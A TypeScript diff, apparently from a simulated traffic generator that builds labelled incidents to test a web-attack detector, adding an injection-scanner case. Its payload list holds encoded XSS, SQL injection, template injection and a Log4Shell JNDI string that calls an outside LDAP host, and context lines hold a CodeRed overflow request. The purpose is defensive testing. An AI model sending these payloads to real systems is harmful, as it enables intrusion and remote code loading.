@@ -221,6 +221,23 @@ export function allIncidents(startMs: EpochMs, hours: number, seed: number, requ
       expected: { incident: 'legit-surge', detector: 'surge', subjectType: 'global', subject: 'all', startMs: t0, endMs: t1 },
     });
   }
+  // ---- Issue 19 (helper "probes"): a scanner without the usual paths. ----
+  // 13. An injection scanner behind a browser agent (as Netsparker and Acunetix send): quote, markup, SQL, template
+  //     and Log4Shell payloads in the query of real pages, answered 200 with the page, a few 500: no sensitive path,
+  //     no 404s, found only by its probe kinds.
+  {
+    const t0 = at(hours * 0.6);
+    const t1 = t0 + 6 * MIN;
+    // Its own random stream: the incidents above draw the same numbers with or without it.
+    const own = new Rng(seed * 7919 + 1913);
+    const payloads = ['a%27b%22c%27d%22', '%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E', '1%27%20AND%201%3D1--%20-', '1%20UNION%20ALL%20SELECT%20NULL%2CNULL--', '%7B%7B7*7%7D%7D', '%24%7Bjndi%3Aldap%3A%2F%2F45.155.205.233%3A12344%2Fa%7D', 'o1rn8%27o1rn8'];
+    list.push({
+      id: 'injection-scanner', description: 'one address with a browser agent sending injection payloads in the query of /search, answered 200 and some 500',
+      actor: { start: (sim) => spread(sim, own, t0, t1, 240, (i, t, s) => s.request(t, { ip: '103.145.13.88', ua: BROWSER }, fixed('/search', 'GET', 80),
+        { query: `q=${payloads[i % payloads.length] ?? ''}`, ...(i % 12 === 5 ? { status: 500, targetStatus: 500 } : { status: 200, targetStatus: 200 }) })) },
+      expected: { incident: 'injection-scanner', detector: 'scanner', subjectType: 'ip', subject: '103.145.13.88', startMs: t0, endMs: t1 },
+    });
+  }
   for (const i of campaignIncidents(startMs, hours, seed)) list.push(i);
   return list;
 }
@@ -251,7 +268,7 @@ function campaignIncidents(startMs: EpochMs, hours: number, seed: number): Incid
   const rng = new Rng(seed * 104_729 + 29);
   const span = hours * HOUR;
   const list: Incident[] = [];
-  // 13. One address flooding PROPFIND /admin$ (SMB share names over WebDAV): 6,000 requests in 6 minutes, peak 1,600/min.
+  // 14. One address flooding PROPFIND /admin$ (SMB share names over WebDAV): 6,000 requests in 6 minutes, peak 1,600/min.
   {
     const t0 = startMs + Math.round(hours * 0.05 * HOUR);
     const perMinute = [300, 1000, 1600, 1600, 1000, 500];
@@ -262,7 +279,7 @@ function campaignIncidents(startMs: EpochMs, hours: number, seed: number): Incid
       expected: { incident: 'lone-flood', detector: 'burst', subjectType: 'ip', subject: '82.82.97.119', startMs: t0, endMs: t0 + 6 * MIN },
     });
   }
-  // 14. CodeRed from 103 addresses, spread over the whole period.
+  // 15. CodeRed from 103 addresses, spread over the whole period.
   {
     const ida = `X${'X'.repeat(223)}%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a`;
     list.push({
@@ -276,7 +293,7 @@ function campaignIncidents(startMs: EpochMs, hours: number, seed: number): Incid
       expected: { incident: 'exploit-campaign', detector: 'campaign', subjectType: 'signature', subject: 'exploit CodeRed', startMs, endMs: startMs + span },
     });
   }
-  // 15. Worm background: 353 hosts, each probing Nimda's 16 paths within a few seconds, all refused.
+  // 16. Worm background: 353 hosts, each probing Nimda's 16 paths within a few seconds, all refused.
   {
     list.push({
       id: 'worm-background', description: '353 worm hosts each probing the same 16 Nimda paths, all answered 404/400',
